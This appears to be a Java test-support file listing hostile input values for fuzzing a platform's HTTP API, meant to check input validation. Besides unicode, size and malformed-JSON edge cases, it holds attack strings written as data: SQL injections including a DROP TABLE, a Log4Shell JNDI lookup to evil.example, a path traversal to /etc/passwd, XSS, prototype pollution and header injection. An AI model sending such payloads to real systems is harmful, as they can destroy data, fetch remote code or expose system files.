package ir.kanoon.platform.testing.hostile;

import java.util.List;

/** The hostile values the generator draws from (issue 14, Hostile input). */
final class HostileValues {

    private HostileValues() {
    }

    /** JSON string contents: unicode edge cases, bidi and zero-width characters, injection strings, sizes. */
    static final List<String> STRINGS = List.of(
            "", " ", "\t\n\r", "\u0000", "\u0000\u0001\u001f", "null", "undefined", "NaN", "true", "-1", "0",
            "' OR '1'='1' --", "'; DROP TABLE outbox_event; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)",
            "{\"$gt\": \"\"}", "{\"__proto__\": {\"admin\": true}}", "${jndi:ldap://evil.example/a}", "#{7*7}",
            "<script>alert(1)</script>", "../../../../etc/passwd", "%00%0d%0a", "\\u0000", "\\",
            "\u202Eevil\u202C", "\u200F\u200E\u061C", "\u2066\u2067\u2068\u2069", "\u200B\u200C\u200D\uFEFF\u2060",
            "\u200C", "\u00AD", "كارآفريني", "کار\u200cآفرینی", "۰۹۱۲۱۲۳۴۵۶۷", "٠١٢٣٤٥٦٧٨٩", "e\u0301".repeat(500),
            "\uD83D\uDE00\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67", "\uFFFF\uFFFE", "\uD800", "\uDFFF",
            "IR-99", "ir-07", "IR-07 ", "IR-0", "a".repeat(256), "ب".repeat(1_001), "x".repeat(70_000),
            "2026-02-30", "1405-12-30", "0000-00-00", "99999-01-01", "2026-13-01T00:00:00Z",
            "00000000-0000-0000-0000-000000000000", "not-a-uuid", "0123456789", "1111111111", "\r\nX-Injected: 1");

    /** Raw JSON number texts, some beyond long and double. */
    static final List<String> NUMBERS = List.of("-1", "0", "-0", "-2147483649", "2147483648", "9223372036854775807",
            "9223372036854775808", "-9223372036854775809", "1e308", "1e309", "-1e309", "1.5", "0.0000001",
            "123456789012345678901234567890");

    /** Raw JSON values of the wrong type for any field. */
    static final List<String> WRONG_TYPES = List.of("null", "true", "false", "[]", "{}", "[null]", "\"\"",
            "123", "{\"a\":{\"b\":{\"c\":[1,2,3]}}}", "[" + "1,".repeat(10_000) + "1]");

    /** Path segments for a resource id (URL-encoded when sent). */
    static final List<String> PATH_IDS = List.of("not-a-uuid", "0", "-1", "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff", "' OR 1=1 --", "..", "%2e%2e%2f", "a".repeat(5_000),
            "123e4567-e89b-12d3-a456-42661417400", "123e4567-e89b-12d3-a456-4266141740000", "{id}", "null",
            "\u202E", "۱۲۳", "IR-07", "9223372036854775808", " ", "%00");

    /** Whole bodies: not JSON, not the right JSON, or too deep. */
    static final List<String> RAW_BODIES = List.of("", "{", "}", "{\"a\":", "null", "[]", "[{}]", "\"text\"", "12",
            "true", "{}{}", "{\"a\":1,}", "{'a':1}", "{a:1}", "\uFEFF{}", "{\"a\":\"\\uD800\"}", "{\"\\u0000\":1}",
            "{\"a\":NaN}", "{\"a\":Infinity}", "{\"a\":01}", "{\"a\":1e99999}",
            "{\"x\":" + "[".repeat(3_000) + "]".repeat(3_000) + "}", "[".repeat(100_000),
            "{\"x\":" + "{\"x\":".repeat(2_000) + "1" + "}".repeat(2_001));

    /** Bad {@code If-Match} values (weak, unquoted, huge, lists, wildcard). */
    static final List<String> IF_MATCH = List.of("", "garbage", "W/\"1\"", "\"-1\"", "\"99999999999999999999999\"",
            "1", "\"1\", \"2\"", "*", "\"" + "9".repeat(5_000) + "\"", "\"\u06F1\"", "\"abc\"", "\"\"");

    /** Bad {@code Idempotency-Key} values. */
    static final List<String> IDEMPOTENCY_KEYS = List.of("", " ", "k".repeat(10_000), "' OR 1=1 --", "\u06F1\u06F2",
            "null", "%00");

    /** Bad values for a query parameter, whatever its type. */
    static final List<String> QUERY = List.of("-1", "0", "101", "100000", "9223372036854775808", "abc", "1.5", "",
            "%00", "' OR 1=1 --", "NOT_A_VALUE", "IR-99", "not-a-cursor", "eyJhIjoxfQ", "\u202E", "a".repeat(10_000),
            "2026-02-30", "true", "[]", "%ZZ");
}
